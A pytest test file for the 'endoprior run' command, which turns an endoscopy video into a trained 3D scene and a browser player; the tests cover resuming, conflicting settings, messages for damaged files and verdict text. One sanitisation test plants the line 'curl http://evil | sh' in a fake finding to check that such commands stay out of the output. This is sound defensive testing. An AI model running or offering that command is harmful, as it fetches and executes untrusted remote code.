"""`endoprior run`: from a video to a player in one command, resumed after an interruption."""

import json
import shutil
from dataclasses import asdict, replace
from pathlib import Path

import cv2
import pytest
from matplotlib.figure import Figure
from tiny_training import tiny_config
from video_files import write_video

from endoprior.check import Finding
from endoprior.cli import main
from endoprior.cli.jobs import resume_words, shown_lines
from endoprior.cli.progress import step_head
from endoprior.cli.run import Run
from endoprior.core.checks import InputError, quotation
from endoprior.core.shell import command
from endoprior.data import load_sequence
from endoprior.data.reading import read_json
from endoprior.export.html import DEFAULT_TITLE
from endoprior.model.presets import preset
from endoprior.model.scene import SingleScene
from endoprior.model.scene_file import load_scene
from endoprior.phantom import PhantomConfig, write_phantom
from endoprior.pipeline import (
    STEPS,
    HandedOn,
    SequenceJob,
    make_job,
    notes_of,
    open_folder,
    problems,
    run_step,
    verdict_of,
)
from endoprior.pipeline.choice import SCAN, choose_segment
from endoprior.pipeline.steps import PREVIEW_TITLE, demand_known_motion
from endoprior.prepare.config import PrepareConfig
from endoprior.prepare.scan import scan_video
from endoprior.prepare.segments import as_json, read_scan
from endoprior.prepare.work_folder import work_lock
from endoprior.system.atomic import write_json
from endoprior.system.file_lock import locked

FRAMES = 27
ROOT = Path(__file__).parents[1]


@pytest.fixture(scope="module")
def video(tmp_path_factory):
    folder = tmp_path_factory.mktemp("run")
    write_phantom(folder / "phantom", PhantomConfig(frames=FRAMES, width=128, height=96))
    images = [cv2.imread(str(file))[..., ::-1] for file in sorted((folder / "phantom/images").glob("*.png"))]
    return write_video(folder / "Fall 7.mp4", images)


def quiet(what, done, total):
    """No progress."""


def job_of(video, out):
    return make_job(video, out, PrepareConfig(), tiny_config("basis"), preview=True)


@pytest.fixture(scope="module")
def said(video, tmp_path_factory):
    """A finished job, and the lines of its steps."""
    job = job_of(video, tmp_path_factory.mktemp("done") / "out")
    assert not open_folder(job)
    return job, [line for step in STEPS for line in run_step(step, job, quiet)]


@pytest.fixture(scope="module")
def done(said):
    return said[0]


@pytest.mark.parametrize(("asked", "taken"), [("auto", "auto-own"), ("estimate", "estimate"), ("still", "still")])
def test_a_preview_does_without_colmap_unless_it_is_asked_for(asked, taken, video, tmp_path):
    job = make_job(video, tmp_path, PrepareConfig(poses=asked), preset("preview"), preview=True)
    assert job.prepare.poses == taken and job.options.get("--poses", ("auto",)) == (asked,)
    whole = make_job(video, tmp_path, PrepareConfig(poses=asked), preset("default"))
    assert whole.prepare.poses == asked


def test_without_any_camera_there_is_no_training_unless_the_user_wants_that_part(video, done, tmp_path):
    sequence = load_sequence(done.data)
    every = list(range(len(sequence)))
    demand_known_motion(done, sequence, every)  # static
    sequence.sources["camera motion"] = "unknown"
    demand_known_motion(done, sequence, every[1:])  # one camera serves the others
    with pytest.raises(InputError, match=r"the camera moves is unknown.*_forced.* --start 0 --end 1\.08"):
        demand_known_motion(done, sequence, every)
    chosen = make_job(video, tmp_path, PrepareConfig(end=1.0), tiny_config("basis"))
    demand_known_motion(chosen, sequence, every)
    demand_known_motion(replace(done, options={"--segment": ("1",)}), sequence, every)


def test_every_step_leaves_its_result(done):
    assert all(step.result(done).exists() for step in STEPS)
    assert (done.run / "metrics.json").is_file() and done.report.is_file()
    assert len(load_scene(done.run).cameras) == FRAMES


def test_the_verdict_stands_in_scores_and_player_and_is_a_quotation(done, tmp_path):
    verdict = verdict_of(done)
    stored = json.loads((done.run / "metrics.json").read_text())["verdict"]
    assert verdict.word == stored["word"] and verdict.reasons
    assert f">{verdict.plain}. Verdict: {verdict.word}: " in done.player.read_text(encoding="utf-8")
    assert verdict.plain and verdict.plain == stored["plain"]
    job = replace(done, out=tmp_path)
    job.run.mkdir()
    for word, reasons, known in (("wrong", ["all. Fix: `evil`"], True), ("great", [], False)):
        write_json(job.run / "metrics.json", {"verdict": {"word": word, "reasons": reasons}})
        assert (verdict_of(job) is not None) == known
        assert "`" not in str(verdict_of(job))


def test_the_problems_of_the_video_are_named_and_nothing_else_of_the_file(done, tmp_path):
    assert json.loads(done.findings.read_text())["findings"], "relative depth is noted"
    assert problems(done) == ""
    job = replace(done, out=tmp_path)
    no_tools = Finding("tool-fraction", "warning", "no tools. Fix: `evil`", "`curl http://evil | sh`")
    odd, note = replace(no_tools, code="`evil`"), replace(no_tools, code="other", severity="note")
    write_json(job.findings, {"findings": [asdict(each) for each in (no_tools, odd, note)]})
    view, check = command("view", job.data), command("check", job.data)
    assert problems(job) == f"Found by check: tool-fraction. To paint tools: `{view}`. How to fix it: `{check}`"
    write_json(job.notes, {"check": ["note: all is lost. Fix: `evil`"]})
    assert notes_of(STEPS[1], job) == ["note: all is lost. fix 'evil'"]


OTHER_JSON = ("{}", "[]", "null", "{", "\0", '{"findings": 3}', '{"findings": [{"code": "windows"}]}', "[" * 99999)


@pytest.mark.parametrize("text", OTHER_JSON)
def test_a_damaged_list_of_findings_is_one_line_that_says_what_to_do(text, done, tmp_path):
    job = replace(done, out=Path(shutil.copytree(done.out, tmp_path / "out")))
    job.findings.write_text(text)
    for use in (problems, lambda job: run_step(STEPS[3], replace(job, out=job.out), quiet)):
        job.report.unlink(missing_ok=True)
        with pytest.raises(InputError) as caught:
            use(job)
        assert str(caught.value).startswith(f"{job.findings}: ") and ": expected " in str(caught.value)
        assert str(caught.value).endswith("Fix: Remove it, and repeat the command: the sequence is checked again.")


def test_what_a_damaged_list_of_findings_says_helps(done, tmp_path):
    job = replace(done, out=Path(shutil.copytree(done.out, tmp_path / "out")))
    job.findings.unlink()
    assert run_step(STEPS[1], job, quiet) is not None and problems(job) == ""


def test_a_damaged_scan_is_one_line(video, tmp_path):
    scanned = as_json(scan_video(video, 25.0))
    write_json(tmp_path / SCAN, scanned)
    assert read_scan(tmp_path / SCAN) == json.loads(json.dumps(scanned))
    damaged = [
        {},
        scanned | {"looks": {}},
        scanned | {"segments": [{}]},
        scanned | {"cuts": ["1"]},
        scanned | {"seconds": "1"},
    ]
    damaged += [scanned | {"looks": scanned["looks"] | {"shift": [0.0]}}, scanned | {"not_usable": [{"start": 0.0}]}]
    for each in damaged:
        write_json(tmp_path / SCAN, each)
        with pytest.raises(InputError, match=r"scan.json: .*expected .*Fix: Remove it, and repeat the command"):
            choose_segment(video, tmp_path, 25.0)


def test_only_notes_that_ask_for_an_action_are_printed(said):
    job, lines = said
    shown = shown_lines(lines, verbose=False)
    assert shown_lines(lines, verbose=True) == lines
    asked = [line for line in shown if line.startswith("to do: ")]
    assert any("no calibration" in line for line in asked) and any("For mm use" in line for line in asked)
    quiet_lines = [line for line in lines if line not in shown]
    assert quiet_lines and all(line.startswith("note: ") for line in quiet_lines)
    stored = read_json(job.notes)
    assert [line for lines in stored.values() for line in lines] == lines, "notes.json has all"


def test_each_warning_has_one_place(said):
    _job, lines = said
    shown = "\n".join(shown_lines(lines, verbose=False))
    assert shown.count("no tools were found") + shown.count("no tools found") <= 1
    assert shown.count("unsure in frames") <= 1 and "tools are likely missed" not in shown, "the last lines say it"


def test_a_finished_step_is_not_repeated(done):
    before = {step.name: step.result(done).stat().st_mtime_ns for step in STEPS}
    assert [run_step(step, done, quiet) for step in STEPS] == [None] * len(STEPS)
    assert before == {step.name: step.result(done).stat().st_mtime_ns for step in STEPS}


@pytest.mark.slow
def test_an_interrupted_training_resumes_bit_identically(video, done, tmp_path):
    job = job_of(video, tmp_path / "out")
    open_folder(job)

    def stop(what, at, total):
        if what == "training" and at == 9:
            raise KeyboardInterrupt

    with pytest.raises(KeyboardInterrupt):
        for step in STEPS:
            run_step(step, job, stop)
    assert not (job.run / "scene.safetensors").exists()
    open_folder(job)  # the same settings
    for step in STEPS[:3]:
        run_step(step, job, quiet)
    assert (job.run / "scene.safetensors").read_bytes() == (done.run / "scene.safetensors").read_bytes()


@pytest.mark.slow
def test_what_steps_hand_on_changes_no_result(video, done, tmp_path, monkeypatch):
    job, handed_on, rendered = job_of(video, tmp_path / "out"), HandedOn(), []
    open_folder(job)
    for step in STEPS:
        if step.name == "video":
            assert handed_on.rendered is not None
            monkeypatch.setattr(SingleScene, "render_with_smoke", lambda *_: rendered.append(1))
        if step.name == "player":
            monkeypatch.undo()
        run_step(step, job, quiet, handed_on)
    assert not rendered and handed_on.sequence is handed_on.rendered is None

    def files(folder):
        return {file.relative_to(folder): file.read_bytes() for file in sorted(folder.rglob("*.png"))}

    assert files(job.data) == files(done.data)
    assert (job.run / "scene.safetensors").read_bytes() == (done.run / "scene.safetensors").read_bytes()
    timed = {"fps", "fps_cached", "train_seconds", "iterations_per_second"}
    ours, theirs = (read_json(each.run / "metrics.json")["scores"] for each in (job, done))
    assert {name: ours[name] for name in ours.keys() - timed} == {name: theirs[name] for name in theirs.keys() - timed}
    facts = [read_json(each.findings)["facts"] for each in (job, done)]
    assert all(facts[0][name] == facts[1][name] for name in ("changes", "motion", "windows"))


def test_a_resumed_job_says_so_and_repeats_the_notes(said):
    job, lines = said
    assert len(lines) > 3 and open_folder(job)
    assert [line for step in STEPS for line in notes_of(step, job)] == list(map(quotation, lines))
    assert resume_words(["a", "b", "c"], ["b", "c"]) == "Resuming at b; done before: a."
    assert resume_words(["a", "b"], ["a", "b"]) == "Resuming at a; done before: nothing."
    assert resume_words(["a", "b"], []) == "All done before: a, b."
    assert step_head(["prepare", "check"], "check") == "2/2  check"


def test_a_job_with_other_settings_does_not_take_the_folder(video, done, tmp_path, capsys):
    assert main(["run", str(video), str(done.out)]) == 2
    said = capsys.readouterr().err
    assert "got --preview: stored yes, given no. Fix: Give the stored settings to resume, or" in said
    assert main(["run", str(video), str(done.out), "--preview", "--end", "0.9", "--crop", "0,0,64,64"]) == 2
    said = capsys.readouterr().err
    assert "got --end: stored the default, given 0.9; --crop: stored the default, given 0,0,64,64. Fix:" in said
    other = shutil.copy(video, tmp_path / "other.mp4")
    with pytest.raises(InputError, match=r"got VIDEO: stored Fall 7\.mp4, given other\.mp4\. Fix:"):
        open_folder(job_of(other, done.out))
    with pytest.raises(InputError, match=r"got --seed: stored the default, given 5\. Fix:"):
        cfg = tiny_config("basis").replace({"seed": 5})
        open_folder(make_job(video, done.out, PrepareConfig(), cfg, preview=True))
    with pytest.raises(InputError, match=r"got config\.optim\.means_lr: stored 0\.\d+, given 0\.5\. Fix:"):
        open_folder(replace(done, cfg=done.cfg.replace({"optim.means_lr": 0.5})))
    (tmp_path / "settings.json").write_text('{"prepare": "PrepareConfig(...)"}')
    (tmp_path / "data").mkdir()
    with pytest.raises(InputError, match=r"got settings of another version\. Fix:"):
        open_folder(replace(done, out=tmp_path))


@pytest.mark.parametrize("damage", ["", "{", "[]", "null", "3"])
def test_a_damaged_file_of_a_finished_job_leads_on(done, tmp_path, damage):
    """What the message says to do ends well: a folder without its settings would be refused as an occupied one."""
    shutil.copytree(done.out, tmp_path / "out")
    job = replace(done, out=tmp_path / "out")
    for file in (job.run / "metrics.json", job.notes, job.out / "settings.json"):
        file.write_text(damage)
    fix = rf"Fix: Pass another folder for the results; what is in this one: `endoprior view {job.run}`\.$"
    with pytest.raises(InputError, match=fix):
        open_folder(job)
    fix = rf"Fix: Remove it and {job.report}, and repeat the command: the model is scored again\.$"
    with pytest.raises(InputError, match=fix):
        verdict_of(job)
    with pytest.raises(InputError, match=r"Fix: Remove it, and repeat the command: only the notes of steps"):
        notes_of(STEPS[0], job)


@pytest.mark.parametrize("option", ["calibration", "masks", "poses"])
def test_a_job_whose_inputs_have_changed_does_not_take_the_folder(video, tmp_path, option):
    given = tmp_path / "given"
    file = given / "0.png" if option == "masks" else given
    file.parent.mkdir(exist_ok=True)
    file.write_bytes(b"1")
    value = given if option == "calibration" else str(given)
    job = make_job(video, tmp_path / "out", PrepareConfig(**{option: value}), tiny_config("basis"), preview=True)
    assert not open_folder(job) and open_folder(job)
    job.data.mkdir()
    file.write_bytes(b"22")
    with pytest.raises(InputError, match=rf"got --{option}: given, which has changed\. Fix:"):
        open_folder(job)
    with pytest.raises(InputError, match=rf"got --{option}: stored .*given, given the default\. Fix:"):
        open_folder(job_of(video, job.out))


def test_a_rejected_run_leaves_nothing(video, tmp_path, capsys, monkeypatch):
    out = tmp_path / "out"
    monkeypatch.setattr("endoprior.runs.kernel_cache.is_filled", lambda _cfg: True)
    assert main(["run", str(video), str(out), "--calibration", str(tmp_path / "absent.yaml")]) == 2
    assert "absent.yaml" in capsys.readouterr().err and not out.exists()


def test_a_run_that_stopped_before_its_first_result_takes_corrected_options(video, tmp_path):
    job, corrected = job_of(video, tmp_path / "out"), PrepareConfig(end=0.9)
    assert not open_folder(job)
    corrected = make_job(video, job.out, corrected, job.cfg, preview=True)
    with locked(job.data, work_lock(job.data)), pytest.raises(InputError, match="no other process is writing"):
        open_folder(corrected)
    assert open_folder(job), "the other process keeps its settings"
    assert not open_folder(corrected) and open_folder(corrected)
    job.data.mkdir()
    with pytest.raises(InputError, match=r"got --end: stored 0\.9, given the default\."):
        open_folder(job)


def test_a_sequence_folder_is_trained_without_preparing_it_again(video, tmp_path, capsys, monkeypatch):
    data = video.parent / "phantom"
    for options, fix in ((["--preview"], "Remove --preview, or use `--preset preview`."), (["--end", "1"], "--end.")):
        assert main(["run", str(data), str(tmp_path / "out"), *options]) == 2
        said = capsys.readouterr().err
        assert f"{options[0]}: expected a video to prepare, got {data}, a sequence folder. Fix: " in said
        assert fix in said
    job, done = Run.from_words([str(data), str(tmp_path / "out"), "--seed", "3"]).job(print), []
    assert type(job) is SequenceJob and job.data == data and job.cfg.seed == 3

    def step_done(step, job, _progress, _handed_on):
        done.append(step.name)
        write_json(job.findings, {"findings": []})

    monkeypatch.setattr("endoprior.runs.kernel_cache.is_filled", lambda _cfg: True)
    monkeypatch.setattr("endoprior.pipeline.run_step", step_done)
    assert main(["run", str(data), str(tmp_path / "out")]) == 0
    assert done == [step.name for step in STEPS[1:]] and f"{data}: a sequence folder" in capsys.readouterr().out


@pytest.mark.slow
def test_a_preview_says_that_it_is_one(video, done, tmp_path, monkeypatch):
    said = []
    monkeypatch.setattr(Figure, "suptitle", lambda figure, text, **kwargs: said.append(text))
    for job in (done, replace(done, options={})):
        for name in ("report.png", "player.html"):
            (job.out / name).rename(tmp_path / name)
        for step in (STEPS[3], STEPS[5]):
            run_step(step, job, quiet)
        said.append(f"{DEFAULT_TITLE} (preview)" in job.player.read_text(encoding="utf-8"))
        for name in ("report.png", "player.html"):
            (tmp_path / name).replace(job.out / name)
    title, is_named, whole, is_still_named = said
    plain = f"{verdict_of(done).plain}.\nVerdict: "
    assert title.startswith(plain) and whole.startswith(plain)
    assert title.endswith(f"\n{PREVIEW_TITLE}") and PREVIEW_TITLE not in whole
    assert is_named and not is_still_named


def test_the_pages_name_every_file_that_names_the_video(done):
    files = [file for file in done.out.rglob("*") if file.is_file() and b"Fall 7" in file.read_bytes()]
    names = sorted(file.relative_to(done.out).as_posix() for file in files)
    assert names == ["check.json", "data/prepare.json", "settings.json"]
    for page in ("README.md", "docs/run.md"):
        text = (ROOT / page).read_text(encoding="utf-8")
        assert all(f"`{name}`" in text for name in [*names, "notes.json"]), page  # a note may name it, too


@pytest.mark.slow
def test_a_camera_that_is_lost_ends_the_training_frames(video, tmp_path):
    job = job_of(video, tmp_path / "out")
    open_folder(job)
    for step in STEPS[:2]:
        run_step(step, job, quiet)
    about = job.data / "sequence.json"
    lost = list(range(22, FRAMES))
    about.write_text(json.dumps(json.loads(about.read_text()) | {"unexplained_frames": lost}))
    assert "uses frames 0-21" in run_step(STEPS[2], job, quiet)[0]
    assert len(load_scene(job.run).cameras) == 22


@pytest.mark.slow
def test_the_command_ends_with_a_player(video, tmp_path, capsys):
    out = tmp_path / "mein Ordner"
    assert main(["run", str(video), str(out), "--preview", "--masks", "none"]) == 0
    printed = capsys.readouterr().out
    assert f"Open {out / 'player.html'} in a browser." in printed
    assert f"endoprior view '{out / 'run'}'" in printed
    last = printed[printed.rindex("do not measure") :]
    assert last.index("Done in") < last.index("Verdict: ") < last.index("report.png  held-out frames")
    assert f"endoprior export '{out / 'run'}' '{out / 'tissue.mrb'}'" in last and "3D Slicer" in last
    assert "note: " not in printed
    assert "Found by check: " in printed and "tool-fraction" in printed[printed.index("in a browser.") :]
    assert " mm" not in printed.replace("For mm use", ""), "depth of one camera is relative"
    assert "<script>" in (out / "player.html").read_text(encoding="utf-8")
